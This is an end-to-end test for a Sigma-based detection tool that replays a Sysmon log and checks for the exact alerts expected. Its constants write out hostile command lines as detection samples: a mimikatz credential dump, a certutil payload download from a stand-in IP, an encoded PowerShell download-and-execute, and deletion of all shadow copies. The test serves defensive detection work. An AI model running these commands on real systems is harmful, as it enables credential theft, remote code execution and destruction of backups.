/**
 * End to end: a Sysmon log in evtx_dump's JSON (test/fixtures/sigma/sysmon-attacks.jsonl: ten
 * events, five attacks among benign noise) replayed through
 * `vigil run --sigma-pipeline evtx-json --rules <the corpus's Windows rules>`, and the exact alerts.
 *
 * The expected alerts were derived by hand, not by src/sigma: for each event, the corpus was
 * searched for the rules that name its tool, flags and strings (mimikatz, sekurlsa::, urlcache,
 * whoami, -enc, SQBFAFgA, vssadmin, shadows, powershell.exe, and the images and parents involved),
 * and each candidate's detection was read against the event. Each expected alert says why below.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sigmaMaterialDir } from '../sigma/helpers.js';
import { runVigil } from './run-cli.js';

const ROOT = sigmaMaterialDir();
const FIXTURE = 'test/fixtures/sigma/sysmon-attacks.jsonl';

const MIMIKATZ = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit';
const CERTUTIL = 'certutil.exe -urlcache -split -f http://203.0.113.7/payload.txt C:\\Users\\Public\\payload.txt';
const WHOAMI = 'whoami /priv';
const ENCODED = 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const VSSADMIN = 'vssadmin.exe delete shadows /all /quiet';

/** `rule | command line` (or image) of every alert expected, each with the reason it holds. */
const EXPECTED = [
  // proc_creation_win_hktl_mimikatz_command_line: CommandLine contains 'mimikatz' (and 'privilege::', 'sekurlsa::').
  `HackTool - Mimikatz Execution | ${MIMIKATZ}`,
  // proc_creation_win_certutil_download: image \certutil.exe, 'urlcache ', 'http'.
  `Suspicious Download Via Certutil.EXE | ${CERTUTIL}`,
  // proc_creation_win_certutil_download_direct_ip: the same, and '://2' (http://203.…); not '://7-'.
  `Suspicious File Downloaded From Direct IP Via Certutil.EXE | ${CERTUTIL}`,
  // proc_creation_win_whoami_priv_discovery: image \whoami.exe and ' /priv'.
  `Security Privileges Enumeration Via Whoami.EXE | ${WHOAMI}`,
  // proc_creation_win_susp_local_system_owner_account_discovery: selection_other_img, any \whoami.exe.
  `Local Accounts Discovery | ${WHOAMI}`,
  // proc_creation_win_powershell_base64_encoded_cmd: powershell.exe, ' -e' and ' SQBFAFgA'.
  `Suspicious Encoded PowerShell Command Line | ${ENCODED}`,
  // proc_creation_win_powershell_base64_encoded_cmd_patterns: ' -enco' (of -EncodedCommand, any case) and ' SQBFAFgA'.
  `Suspicious PowerShell Encoded Command Patterns | ${ENCODED}`,
  // proc_creation_win_powershell_base64_iex: contains 'SQBFAFgAIAAoAE4AZQB3A' (UTF-16LE "IEX (New").
  `PowerShell Base64 Encoded IEX Cmdlet | ${ENCODED}`,
  // proc_creation_win_powershell_encode: \powershell.exe with ' -enco', no ' -Encoding ', parent not gc_worker.
  `Suspicious Execution of Powershell with Base64 | ${ENCODED}`,
  // proc_creation_win_powershell_non_interactive_execution: powershell.exe whose parent is cmd.exe, not explorer.
  // (It reads no CommandLine, so its alert is told by the image: the alert holds the fields a rule reads.)
  `Non Interactive PowerShell Process Spawned | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`,
  // proc_creation_win_susp_shadow_copies_deletion: \vssadmin.exe with 'shadow' and 'delete'.
  `Shadow Copies Deletion Using Operating Systems Utilities | ${VSSADMIN}`,
];
// Read and not expected: Whoami.EXE Execution Anomaly (parent cmd.exe is a known one), Whoami.EXE
// Execution From Privileged Process (user CORP\bob), Suspicious SYSTEM User Process Creation (not
// SYSTEM), Suspicious PowerShell Parameter Substring (only abbreviations like ' -NoProfil '),
// Suspicious PowerShell Invocations - Specific (no ' -w '), Malicious Base64 Encoded PowerShell
// Keywords (none of its strings), PowerShell Base64 Encoded Invoke Keyword (no Invoke-), File-Sharing
// Website Via Certutil (an IP, not a listed domain), LSASS Dump Keyword (no lsass). The chrome,
// notepad, svchost and Word processes and the chrome connection (Sysmon 3) raise nothing.

describe.skipIf(!ROOT)('vigil run replays a Sysmon log with known attacks through the corpus rules', () => {
  it('raises exactly the alerts read off the rules by hand', { timeout: 180_000 }, async () => {
    const { code, stdout, stderr } = await runVigil(['run', '--no-guard', '--rules', join(ROOT!, 'rules/windows'), '--sigma-pipeline', 'evtx-json', FIXTURE]);
    expect(code).toBe(0);
    // Warnings only (logsources evtx-json does not route), no error.
    expect(stderr).not.toMatch(/: error: /);
    const alerts = stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const got = alerts.map((a) => `${String(a.rule)} | ${String(a['Event.EventData.CommandLine'] ?? a['Event.EventData.Image'])}`);
    expect([...got].sort()).toEqual([...EXPECTED].sort());
    // Every alert carries its Sigma metadata.
    for (const a of alerts) expect((a.sigma as { id?: string }).id).toMatch(/^[0-9a-f-]{36}$/);
  });
});
